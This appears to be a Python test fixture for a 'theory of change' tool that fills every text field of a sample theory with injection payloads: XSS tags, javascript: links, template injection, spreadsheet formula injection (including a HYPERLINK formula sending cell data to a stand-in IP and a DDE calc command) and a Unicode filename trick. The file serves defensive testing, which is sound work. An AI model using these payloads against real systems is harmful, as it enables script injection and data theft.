"""Words that would like to be more than words, and a theory that holds them in every field that takes text."""

from __future__ import annotations

import copy
import itertools
from typing import Any

from toc.theory import TheoryFileError, from_tree, json_schema

PAYLOADS = (
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "\"><svg onload=window.hit=1>",
    "' onmouseover='window.hit=1' x='",
    "</title></style></textarea><script>window.hit=1</script>",
    "javascript:window.hit=1",
    "[a link](javascript:window.hit=1) <javascript:window.hit=1>",
    "]]><script>window.hit=1</script><![CDATA[",
    "--><iframe srcdoc='<script>parent.hit=1</script>'>",
    "{{constructor.constructor('window.hit=1')()}}${window.hit=1}",
    "=HYPERLINK(\"http://192.0.2.1/?\"&A1,\"x\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "click A href \"javascript:window.hit=1\"",
    "\u202egnp.exe \u2028 \u0085 \ufeff",
)  # fmt: skip
START: dict[str, Any] = {
    "toc": 1,
    "strands": {"s": {}},
    "stakeholders": {"who": {}},
    "outcomes": {"joy": {"role": "long_term", "strands": ["s"]}, "safe": {}, "seen": {"role": "impact"}},
    "interventions": {"act": {}},
    "assumptions": {"as": {"about": ["joy"]}},
    "indicators": {
        "rate": {"measures": "joy", "readings": [{"date": f"2026-0{n}-01", "value": n} for n in range(1, 7)]}
    },
    "evidence": {"ev": {"supports": ["safe>joy"]}},
    "factors": {"fa": {"about": ["act"]}},
    "links": [{"from": "safe", "to": "joy"}, {"from": "act", "to": "safe"}, {"from": "joy", "to": "seen"}],
    "dismissed": [{"check": "several-tops", "about": ["joy"]}],
    "ideas": {"c1": {}},
}
TABLES = {
    "strands": "Strand", "stakeholders": "Stakeholder", "outcomes": "Outcome", "interventions": "Intervention",
    "assumptions": "Assumption", "indicators": "Indicator", "evidence": "Evidence", "factors": "Factor",
    "links": "Link", "dismissed": "Dismissal", "ideas": "Idea",
}  # fmt: skip


def text_fields(about: dict[str, Any]) -> list[str]:
    """The fields of a record that take any words."""
    return [name for name, field in about["properties"].items() if "string" in (field.get("type") or ())]


def theory_of(payloads: tuple[str, ...] = PAYLOADS):
    """The theory, and how many fields hold a payload; fields that take no such words stay empty."""
    schema, tree, held = json_schema(), copy.deepcopy(START), 0
    words = itertools.cycle(payloads)
    own = [(tree, name) for name in text_fields(schema) if name not in ("toc", "step")]
    tree["situation"] = {}
    own += [(tree["situation"], name) for name in text_fields(schema["$defs"]["Situation"])]
    for table, model in TABLES.items():
        rows = tree[table] if isinstance(tree[table], list) else tree[table].values()
        names = [name for name in text_fields(schema["$defs"][model]) if name not in ("id", "from", "to", "check")]
        own += [(row, name) for row in rows for name in names]
    for holder, name in own:
        before = holder.get(name)
        if before is not None:
            continue
        holder[name] = next(words)
        try:
            from_tree(tree)
            held += 1
        except TheoryFileError:
            del holder[name]
    tree["glossary"] = {"QI": next(words)}
    return from_tree(tree), held
